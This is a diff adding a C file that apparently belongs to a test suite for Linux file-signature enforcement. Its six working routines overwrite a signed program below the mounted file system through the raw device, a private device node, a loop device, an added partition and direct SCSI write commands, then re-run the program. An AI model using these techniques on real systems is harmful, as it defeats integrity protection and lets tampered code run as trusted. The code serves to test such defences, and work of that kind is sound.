@@ -1,0 +1,236 @@
+// SPDX-License-Identifier: BSD-3-Clause
+/* Ways to write to the device below a mounted file system. Each changes a signed file there. */
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/blkpg.h>
+#include <linux/fs.h>
+#include <linux/loop.h>
+#include <scsi/sg.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/stat.h>
+#include <sys/sysmacros.h>
+#include <unistd.h>
+
+#include "attack.h"
+
+#define SECTOR 512
+
+/* A signed program and where it is on its device. */
+struct place {
+	dev_t device;
+	char name[64];	       /* of the device, in /sys/block */
+	unsigned long long at; /* bytes from its start */
+	int held; /* keeps the inode in memory, and with it what is remembered about it */
+};
+
+static void find_name(struct place *place)
+{
+	char path[64], target[256];
+	ssize_t size;
+
+	snprintf(path, sizeof(path), "/sys/dev/block/%u:%u", major(place->device),
+		 minor(place->device));
+	size = need(readlink(path, target, sizeof(target) - 1), path);
+	target[size] = 0;
+	snprintf(place->name, sizeof(place->name), "%s", strrchr(target, '/') + 1);
+}
+
+/* Executes the program once, so that there is a verdict, and finds it. Its blocks are in one row:
+ * it is small. */
+static void prepare(struct place *place)
+{
+	struct stat stat;
+	int block = 0;
+
+	copy_file("victim", "program");
+	need(answer_of("./program") == INTENDED ? 0 : -1, "victim");
+	place->held = need(open("program", O_RDONLY), "program");
+	need(fsync(place->held), "program");
+	need(fstat(place->held, &stat), "program");
+	need(ioctl(place->held, FIBMAP, &block), "FIBMAP");
+	place->device = stat.st_dev;
+	place->at = (unsigned long long)block * stat.st_blksize;
+	find_name(place);
+}
+
+static size_t wanted(char *bytes)
+{
+	size_t size = load_file("payload", bytes, 1 << 16);
+
+	return (size + SECTOR - 1) & -(size_t)SECTOR;
+}
+
+/* The device was written: what is in memory of the file goes, then it is executed again. */
+static int execute_again(struct place *place)
+{
+	sync();
+	need(echo("1", "/proc/sys/vm/drop_caches"), "drop_caches");
+	return RUN("./program");
+}
+
+static int write_device(const char *path, unsigned long long at)
+{
+	static char bytes[1 << 16];
+	size_t size = wanted(bytes);
+	int fd = open(path, O_RDWR);
+	int error = 0;
+
+	if (fd < 0)
+		return -errno;
+	if (pwrite(fd, bytes, size, at) < 0 || fsync(fd) < 0)
+		error = -errno;
+	close(fd);
+	return error;
+}
+
+static int raw_device(void)
+{
+	struct place place;
+	char path[128];
+	int error;
+
+	prepare(&place);
+	snprintf(path, sizeof(path), "/dev/%s", place.name);
+	error = write_device(path, place.at);
+	return error ? error : execute_again(&place);
+}
+
+/* By a name that nobody watches. */
+static int own_node(void)
+{
+	struct place place;
+	int error;
+
+	prepare(&place);
+	need(mknod("node", S_IFBLK | 0600, place.device), "mknod");
+	error = write_device("node", place.at);
+	return error ? error : execute_again(&place);
+}
+
+/* A loop device over the device: another device as far as anybody can tell. */
+static int loop_over_device(void)
+{
+	struct loop_config config = {.info.lo_flags = LO_FLAGS_AUTOCLEAR};
+	int control = open("/dev/loop-control", O_RDWR);
+	struct place place;
+	char path[64], below[128];
+	int error, fd;
+
+	if (control < 0)
+		return NOT_HERE;
+	prepare(&place);
+	snprintf(below, sizeof(below), "/dev/%s", place.name);
+	snprintf(path, sizeof(path), "/dev/loop%d",
+		 need(ioctl(control, LOOP_CTL_GET_FREE), "loop"));
+	fd = need(open(path, O_RDWR), path);
+	config.fd = open(below, O_RDWR);
+	if ((int)config.fd < 0 || ioctl(fd, LOOP_CONFIGURE, &config) < 0)
+		return -errno;
+	close(config.fd);
+	error = write_device(path, place.at);
+	close(fd);
+	return error ? error : execute_again(&place);
+}
+
+/* A partition over the same sectors, made by somebody who has the device open for reading only. */
+static int partition(void)
+{
+	struct blkpg_partition part = {.pno = 9};
+	struct blkpg_ioctl_arg request = {
+		.op = BLKPG_ADD_PARTITION, .datalen = sizeof(part), .data = &part};
+	struct place place;
+	unsigned long long size;
+	char path[128];
+	int fd, error;
+
+	prepare(&place);
+	snprintf(path, sizeof(path), "/dev/%s", place.name);
+	fd = need(open(path, O_RDONLY), path);
+	need(ioctl(fd, BLKGETSIZE64, &size), path);
+	part.start = place.at;
+	part.length = size - place.at;
+	if (ioctl(fd, BLKPG, &request) < 0)
+		return -errno;
+	snprintf(path, sizeof(path), "/dev/%s9", place.name);
+	if (appears(path))
+		snprintf(path, sizeof(path), "/dev/%sp9", place.name);
+	error = write_device(path, 0);
+	request.op = BLKPG_DEL_PARTITION;
+	need(ioctl(fd, BLKPG, &request), "partition");
+	return error ? error : execute_again(&place);
+}
+
+/* --- commands to the disk itself, past all of the block layer --- */
+
+static int send_write(int fd, const char *bytes, size_t size, unsigned long long at)
+{
+	unsigned int sector = at / SECTOR, count = size / SECTOR;
+	unsigned char command[10] = {0x2a}, sense[32]; /* WRITE(10) */
+	sg_io_hdr_t request = {.interface_id = 'S', .dxfer_direction = SG_DXFER_TO_DEV};
+
+	for (int i = 0; i < 4; i++)
+		command[2 + i] = sector >> (24 - 8 * i);
+	command[7] = count >> 8;
+	command[8] = count;
+	request.cmdp = command;
+	request.cmd_len = sizeof(command);
+	request.dxferp = (void *)bytes;
+	request.dxfer_len = size;
+	request.sbp = sense;
+	request.mx_sb_len = sizeof(sense);
+	request.timeout = 20000;
+	if (ioctl(fd, SG_IO, &request) < 0)
+		return -errno;
+	return request.status ? -EIO : 0;
+}
+
+static int command_to(const char *path, int mode, struct place *place)
+{
+	static char bytes[1 << 16];
+	size_t size = wanted(bytes);
+	int fd = open(path, mode);
+	int error;
+
+	if (fd < 0)
+		return errno == ENOENT ? NOT_HERE : -errno;
+	error = send_write(fd, bytes, size, place->at);
+	close(fd);
+	return error ? error : execute_again(place);
+}
+
+/* Through the block device, open for reading. */
+static int scsi_command(void)
+{
+	struct place place;
+	char path[128];
+
+	prepare(&place);
+	if (strncmp(place.name, "sd", 2))
+		return NOT_HERE;
+	snprintf(path, sizeof(path), "/dev/%s", place.name);
+	return command_to(path, O_RDONLY, &place);
+}
+
+/* Through the character device of the disk. */
+static int scsi_generic(void)
+{
+	struct place place;
+
+	prepare(&place);
+	if (strncmp(place.name, "sd", 2))
+		return NOT_HERE;
+	return command_to("/dev/sg0", O_RDWR, &place);
+}
+
+const struct attack device_attacks[] = {
+	{"raw-device", raw_device},
+	{"own-node", own_node},
+	{"loop-over-device", loop_over_device},
+	{"partition", partition},
+	{"scsi-command", scsi_command},
+	{"scsi-generic", scsi_generic},
+	{NULL, NULL},
+};
